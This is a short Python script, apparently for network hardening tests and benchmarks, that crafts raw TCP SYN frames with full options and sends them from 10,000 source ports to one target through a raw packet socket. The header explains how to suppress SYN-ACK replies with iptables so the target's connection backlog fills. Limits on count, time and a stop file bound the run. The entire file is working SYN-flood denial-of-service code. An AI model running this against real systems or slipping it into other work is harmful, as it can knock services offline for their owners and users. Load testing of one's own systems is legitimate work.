# A bounded SYN flood for hardening tests and benchmarks: SYNs carrying MSS,
# SACK-permitted, timestamps and window scale, from ports 20000..29999 of one
# address, sent one frame at a time on an AF_PACKET socket. Stops after COUNT
# SYNs, after SECONDS, or when STOP_FILE exists; prints `FLOODING` once it has
# started and the number of SYNs it sent at the end. Drop the SYN-ACKs on the
# sending side (iptables: --sport PORT --dport 20000:29999) so that the
# target's half-open connections stay and its backlog fills.
# Usage: python3 syn_flood.py IFACE DST_MAC SRC_IP DST_IP DST_PORT COUNT SECONDS STOP_FILE
import os, socket, struct, sys, time

iface, dst_mac, src_ip, dst_ip = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
dport, count, seconds, stop = int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]), sys.argv[8]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
src_mac = open(f"/sys/class/net/{iface}/address").read().strip()


def mac(m):
    return bytes(int(x, 16) for x in m.split(":"))


def csum(b):
    if len(b) % 2:
        b += b"\0"
    t = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while t > 0xFFFF:
        t = (t & 0xFFFF) + (t >> 16)
    return ~t & 0xFFFF


sip, dip = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
opts = struct.pack("!BBH", 2, 4, 1460) + bytes([4, 2, 8, 10]) + struct.pack("!II", 1, 0) + bytes([1, 3, 3, 7])
frames = []
for port in range(20000, 30000):
    tcp = struct.pack("!HHIIBBHHH", port, dport, port * 7919, 0, (20 + len(opts)) // 4 << 4, 0x02, 64240, 0, 0) + opts
    tcp = tcp[:16] + struct.pack("!H", csum(sip + dip + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), port, 0x4000, 64, 6, 0, sip, dip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    frames.append(mac(dst_mac) + mac(src_mac) + b"\x08\x00" + ip + tcp)
print("FLOODING", flush=True)
sent, end = 0, time.time() + seconds
while sent < count and time.time() < end and not os.path.exists(stop):
    for f in frames[: min(len(frames), count - sent)]:
        s.send(f)
    sent += min(len(frames), count - sent)
print(sent, flush=True)
